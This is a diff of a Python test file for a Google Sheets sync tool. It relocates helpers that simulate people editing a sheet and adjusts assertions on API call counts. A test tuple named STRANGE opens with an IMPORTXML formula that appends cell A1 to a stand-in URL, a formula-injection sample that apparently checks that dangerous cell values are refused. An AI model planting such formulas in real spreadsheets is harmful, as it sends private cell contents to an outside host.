@@ -15,10 +15,17 @@ from itn_sync.domain.actions import WriteRow
 from itn_sync.domain.privacy import Confidential
 from itn_sync.domain.seen import Cell
 from itn_sync.gateways import sheet_writes
-from itn_sync.gateways.cells import Json
 from itn_sync.gateways.errors import Refused
-from itn_sync.gateways.sheets import Snapshot, Spreadsheet
-from tests.gateways.sheets_office import TAB, Office, offices, row
+from itn_sync.gateways.sheets import Spreadsheet
+from tests.gateways.sheets_office import (
+    TAB,
+    Office,
+    insert_column,
+    offices,
+    row,
+    sort_backwards,
+    span,
+)
 
 STRANGE = (
     '=IMPORTXML("http://exemple.test/?"&A1;"//a")',
@@ -61,133 +68,16 @@ def spreadsheet(office: Office) -> Spreadsheet:
     return spreadsheet
 
 
-def span(dimension: str, start: int, end: int) -> Json:
-    """Rows or columns [start, end) of TAB."""
-    place = {"sheetId": TAB.sheet_id, "dimension": dimension}
-    return {"range": place | {"startIndex": start, "endIndex": end}}
-
-
-def insert_column(office: Office) -> None:
-    office.batch({"insertDimension": span("COLUMNS", 1, 2)})
-    office.type("Suivi!B1", "À nous")
-    office.type("Suivi!B2", "notre note")
-
-
-def insert_column_before_the_first(office: Office) -> None:
-    office.batch({"insertDimension": span("COLUMNS", 0, 1)})
-    office.type("Suivi!A1", "À nous")
-
-
-def move_a_column(office: Office) -> None:
-    source = span("COLUMNS", 4, 5)["range"]
-    office.batch({"moveDimension": {"source": source, "destinationIndex": 0}})
-
-
-def delete_an_own_column(office: Office) -> None:
-    office.batch({"deleteDimension": span("COLUMNS", 2, 3)})
-
-
-def rename_a_heading(office: Office) -> None:
-    office.type("Suivi!B1", "Étudiant ou étudiante")
-
-
-def insert_a_row(office: Office) -> None:
-    office.batch({"insertDimension": span("ROWS", 1, 2)})
-
-
-def sort_backwards(office: Office) -> None:
-    area = {"sheetId": TAB.sheet_id, "startRowIndex": 1, "startColumnIndex": 0}
-    specs = [{"dimensionIndex": 0, "sortOrder": "DESCENDING"}]
-    office.batch({"sortRange": {"range": area, "sortSpecs": specs}})
-
-
-def move_the_tab(office: Office) -> None:
-    properties = {"sheetId": TAB.sheet_id, "index": 0, "title": "Ailleurs"}
-    office.batch({"updateSheetProperties": {"properties": properties, "fields": "index,title"}})
-    properties |= {"title": "Suivi"}
-    office.batch({"updateSheetProperties": {"properties": properties, "fields": "title"}})
-
-
-MEANWHILE = (
-    insert_column,
-    insert_column_before_the_first,
-    move_a_column,
-    delete_an_own_column,
-    rename_a_heading,
-    insert_a_row,
-    sort_backwards,
-    move_the_tab,
-)
-Act = Callable[[Office], None]
-
-
-def people_s_cells(office: Office) -> dict[str, list[Any]]:
-    """What people see in their columns, by dossier."""
-    notes = zip(office.column("Dossier"), office.column("Remarques"), strict=True)
-    return {identity: [note] for identity, note in notes if identity in ("D-1", "D-2")}
-
-
-@pytest.mark.parametrize("act", MEANWHILE)
-def test_a_new_row_stands_right_whatever_people_did_since_the_reading(
-    office: Office, spreadsheet: Spreadsheet, act: Act
-) -> None:
-    spreadsheet.read()
-    act(office)
-    snapshot = spreadsheet.append({TAB: [row("D-3", name="Inès", due=46_280)]}, 2)
-    added = snapshot.tables["suivi"].rows["D-3"]
-    wanted = {"id": "D-3", "name": "Inès", "due": 46_280, "status": "À contacter"}
-    layout = snapshot.layouts["suivi"]
-    assert added.cells == {k: v for k, v in wanted.items() if k in layout.columns}
-    assert added.number == layout.last_row
-    assert people_s_cells(office) == {"D-1": ["appelée lundi"], "D-2": ["absent"]}
-    if "À nous" in office.rows()[0]:
-        assert office.column("À nous") == ["notre note" if act is insert_column else "", "", ""]
-
-
-def written(spreadsheet: Spreadsheet, stale: Snapshot, cells: dict[str, Cell]) -> Snapshot:
-    """What the lead does: write by a reading that may be stale, read back, repair."""
-    spreadsheet.update({TAB: {"D-1": cells}}, stale)
-    for _ in range(3):
-        snapshot = spreadsheet.read()
-        spreadsheet.update(
-            {TAB: {"D-1": cells, "D-2": {"name": "Émile", "due": None}}},
-            snapshot,
-        )
-    return snapshot
-
-
-@pytest.mark.parametrize("act", MEANWHILE)
-def test_a_change_lands_in_its_column_and_its_row_in_the_end(
-    office: Office, spreadsheet: Spreadsheet, act: Act
-) -> None:
-    stale = spreadsheet.read()
-    act(office)
-    rows = written(spreadsheet, stale, {"name": "Nadia B.", "due": 46_280}).tables["suivi"].rows
-    assert rows["D-1"].text("name") == "Nadia B."
-    assert rows["D-2"].text("name") == "Émile"
-    assert people_s_cells(office) == {"D-1": ["appelée lundi"], "D-2": ["absent"]}
-    if "À nous" in office.rows()[0]:
-        assert office.column("À nous")[:2] == ["notre note" if act is insert_column else "", ""]
-
-
-def test_rows_deleted_meanwhile_do_not_stop_a_change(
-    office: Office, spreadsheet: Spreadsheet
-) -> None:
-    office.batch({"deleteDimension": span("ROWS", 3, 1000)})
-    spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 2)
-    stale = spreadsheet.read()
-    office.batch({"deleteDimension": span("ROWS", 1, 2)})
-    spreadsheet.update({TAB: {"D-3": {"name": "Inès B."}, "D-1": {"name": "?"}}}, stale)
-    assert office.column("Étudiant") == ["Émile", "Inès B."]
-
-
 def test_one_change_is_one_call_whose_other_cells_stay(
     office: Office, spreadsheet: Spreadsheet
 ) -> None:
     snapshot = spreadsheet.read()
     office.calls()
     spreadsheet.update({TAB: {"D-1": {"due": 46_280}, "D-2": {"name": None}}}, snapshot)
-    assert office.calls() == {"sheets.spreadsheets.values.batchUpdateByDataFilter": 1}
+    assert office.calls() == {
+        "sheets.spreadsheets.values.batchUpdateByDataFilter": 1,
+        "sheets.spreadsheets.get": 1,
+    }
     assert office.column("Étudiant") == ["Nadia", ""]
     assert office.column("Avant le") == [46_280, ""]
 
@@ -212,7 +102,8 @@ def test_a_large_change_is_cut_and_arrives_whole(
     assert max(sizes) <= 3_000 < sum(sizes)
     office.calls()
     spreadsheet.update(changes, snapshot)
-    assert office.calls() == {"sheets.spreadsheets.values.batchUpdateByDataFilter": len(bodies)}
+    calls = office.calls()
+    assert calls["sheets.spreadsheets.values.batchUpdateByDataFilter"] == len(bodies)
     assert office.column("Étudiant")[2:] == list(names.values())
     assert office.column("Avant le")[2:] == [1] * 57
 
